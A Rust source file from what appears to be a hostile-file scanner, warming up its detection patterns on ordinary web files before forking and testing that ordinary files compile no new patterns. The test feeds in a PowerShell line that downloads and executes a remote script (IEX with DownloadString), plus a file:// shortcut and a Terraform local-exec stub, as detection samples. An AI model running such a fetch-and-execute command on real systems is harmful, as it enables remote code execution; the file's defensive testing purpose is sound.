//! Has everything that ordinary files need built and learnt before children are forked: patterns are compiled, and remember what they
//! met, and a child has all of that as it is.

use crate::child;
use lazaret_detect::Inspector;
use lazaret_formats::{Content, Setup, Visitor, walk};
use lazaret_model::{Child, Finding, Limits, Part, PartId};

/// Ordinary files of the kinds that pages are made of. They are not hostile, and as short as shows most of what such files have.
const ORDINARY: [(&str, &[u8]); 7] = [
    ("a.html", include_bytes!("warm/page.html")),
    ("a.js", include_bytes!("warm/script.js")),
    ("a.css", include_bytes!("warm/sheet.css")),
    ("a.json", include_bytes!("warm/data.json")),
    ("a.txt", include_bytes!("warm/prose.txt")),
    ("a.svg", include_bytes!("warm/picture.svg")),
    ("a.csv", include_bytes!("warm/table.csv")),
];

/// For whoever is to inspect many files. This thread must be the one that forks: what patterns learn is kept for it.
pub(crate) fn warm_up(inspector: &Inspector) {
    lazaret_detect::warm_up();
    for (name, bytes) in ORDINARY {
        look(inspector, name, bytes);
    }
    let pairs = pairs();
    look(inspector, "b.txt", pairs.as_bytes());
    look(
        inspector,
        "b.js",
        format!("'use strict';\nvar a = 1;\n/*\n{pairs}*/\nfunction b() {{ return a; }}\n").as_bytes(),
    );
    look(inspector, "b.html", format!("<!DOCTYPE html><html><body><pre>{pairs}</pre></body></html>").as_bytes());
}

/// A text in which every letter follows every other. A pattern notes where it goes from each place with each letter the first time
/// that it meets both, and each note is a page of memory that a child would have to copy.
fn pairs() -> String {
    let letters = || (' '..='~').chain(['\t', 'é', 'ж', '中', '\u{2019}']);
    let mut text = String::with_capacity(24 << 10);
    for first in letters().filter(|c| *c != '*') {
        text.extend(letters().filter(|c| !matches!(c, '*' | '<')).flat_map(|second| [first, second]));
        text.push('\n');
    }
    text
}

/// Runs everything once, so that what has to be built before the doors close is built.
pub(crate) fn least(inspector: &Inspector) {
    look(inspector, "warm-up", b"\0");
}

fn look(inspector: &Inspector, name: &str, bytes: &[u8]) {
    let setup = Setup {
        limits: Limits::default(),
        clock: child::clock(),
        spool: None,
        passwords: Vec::new(),
        legacy_hashes: true,
        declared_type: None,
        codings: Vec::new(),
    };
    walk(&bytes.to_vec().into(), name, setup, &mut Silent(inspector));
}

struct Silent<'a>(&'a Inspector);

impl Visitor for Silent<'_> {
    fn begin(&mut self, _: &Part) {}
    fn inspect(&mut self, part: &Part, content: &Content) -> Vec<String> {
        self.0.inspect(part, |offset, len| content.window(offset, len)).incomplete
    }
    fn finding(&mut self, _: &Part, _: Finding) {}
    fn end(&mut self, part: &Part, children: &[Child]) {
        let _ = self.0.conclude(part, children);
    }
    fn withdraw_below(&mut self, _: PartId) {}
}

#[cfg(test)]
mod tests {
    use super::*;
    use lazaret_detect::patterns_compiled;

    /// Files like those of pages, with other things in them.
    const OTHERS: [(&str, &str); 9] = [
        (
            "c.html",
            "<!doctype html><html><head><title>News</title><meta name=description content='All of it'><script src=a.js></script></head>\
             <body class=\"x y\"><h2>Today</h2><p>Click the link &raquo; <a href='https://a.invalid/x?y=1&z=2'>more</a></p>\
             <video controls src=/film.mp4></video><script>var a=[1,2,3];for(var i=0;i<a.length;i++)console.log(a[i]);</script>\
             <form action=/search><input name=q><button>Go</button></form></body></html>",
        ),
        ("d.html", "<div id=\"root\"></div><p>Nothing but a paragraph, and a word in <b>bold</b>.</p>"),
        (
            "c.js",
            "import { a } from './a.js';\nexport default class B extends a {\n  constructor(x) { super(x); this.y = x ?? {}; }\n  \
             async go() { const r = await fetch('/api/b', { method: 'POST', body: JSON.stringify(this.y) }); return r.json(); }\n}\n",
        ),
        ("d.js", "(()=>{var e={7:(e,t)=>{t.x=function(e){return e&&e.__esModule?e:{default:e}}}};window.x=e[7]})();"),
        ("c.css", "html{height:100%}a:hover{color:#06c}.a{background-image:url(a.png)}@media print{nav{display:none}}"),
        ("c.json", "[{\"a\":1,\"b\":\"two\",\"c\":[true,null]},{\"a\":2,\"b\":\"https:\\/\\/b.invalid\\/\",\"c\":[]}]"),
        (
            "c.txt",
            "Bread, milk, eggs.\nCall the plumber at noon - 555 0100.\nThe train leaves at 17:05 from platform 3.\n",
        ),
        ("c.csv", "day,visits,share\n2026-01-01,120,0.31\n2026-01-02,98,0.22\n\"2026-01-03\",\"1,204\",0.47\n"),
        ("c.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 2 2\"><path d=\"M0 0h2v2z\"/></svg>"),
    ];

    #[test]
    fn a_child_compiles_no_pattern_for_what_pages_are_made_of() {
        let inspector = Inspector::new(None, Vec::new());
        warm_up(&inspector);
        for (name, text) in OTHERS {
            let before = patterns_compiled();
            look(&inspector, name, text.as_bytes());
            assert_eq!(
                patterns_compiled(),
                before,
                "{name}: `lazaret_detect::warm_up` and what it looks at are too little for it"
            );
        }
        // Others are left until a file needs them, or the test would hold whatever is counted.
        let before = patterns_compiled();
        look(&inspector, "a.ps1", b"$a = New-Object Net.WebClient; IEX $a.DownloadString('https://a.invalid/b.ps1')\n");
        look(&inspector, "a.lnk", b"[InternetShortcut]\r\nURL=file://a.invalid/b\r\n");
        look(&inspector, "a.tf", b"provisioner \"local-exec\" {\n  command = \"true\"\n}\n");
        assert!(patterns_compiled() > before, "nothing was compiled late");
    }
}
